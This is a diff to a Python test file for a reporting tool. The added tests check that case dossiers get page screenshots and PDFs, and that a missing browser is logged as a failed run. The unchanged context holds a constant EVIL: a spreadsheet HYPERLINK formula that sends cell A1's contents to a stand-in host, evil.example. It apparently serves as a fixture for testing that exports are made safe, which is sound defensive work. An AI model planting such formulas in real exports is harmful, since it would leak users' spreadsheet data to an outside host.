@@ -17,6 +17,7 @@ from patrol.ledger.lead_reading import Lead
 from patrol.reports import FORMATS, export_lead, lead_json
 from patrol.reports.casefile import gather
 from patrol.reports.dossier import html
+from patrol.reports.photographs import photograph
 from patrol.reports.rows import harmless
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -150,3 +151,27 @@ def test_the_dossier_is_a_pdf_with_pages_pictures_and_mark(world: World, lead: L
     assert body.startswith(b"%PDF-")
     assert len(re.findall(rb"/Type\s*/Page\b", body)) >= 4  # the card, each listing, the events
     assert len(re.findall(rb"/Subtype\s*/Image\b", body)) >= 3
+
+
+@pytest.mark.browser
+def test_a_leads_pages_are_photographed_from_their_seals_once(world: World, lead: Lead) -> None:
+    versions = [member.version_id for member in lead.listings]
+    assert photograph(world.ledger, world.archive, versions) == []
+    case = gather(lead.number, world.people["nl"].viewer, world.ledger, world.archive)
+    for entry in case.entries:
+        shot, pdf = entry.photographs.screenshot, entry.photographs.pdf
+        assert shot is not None
+        assert pdf is not None
+        assert world.archive.read(shot).startswith(b"\x89PNG")
+        assert world.archive.read(pdf).startswith(b"%PDF-")
+    runs = len(world.ledger.runs.recent())
+    assert photograph(world.ledger, world.archive, versions) == []
+    assert len(world.ledger.runs.recent()) == runs
+    assert "How the page looked" in html(case, world.archive)
+
+
+def test_without_a_browser_the_missing_photograph_is_a_fault_of_the_run(world: World, lead: Lead) -> None:
+    faults = photograph(world.ledger, world.archive, [lead.listings[0].version_id], {"PATROL_CHROMIUM": "none", "PATH": ""})
+    assert "PATROL_CHROMIUM" in faults[0].message
+    row = world.ledger.runs.recent()[0]
+    assert (row.run.marketplace, row.run.state, row.faults) == ("desk", "failed", 1)
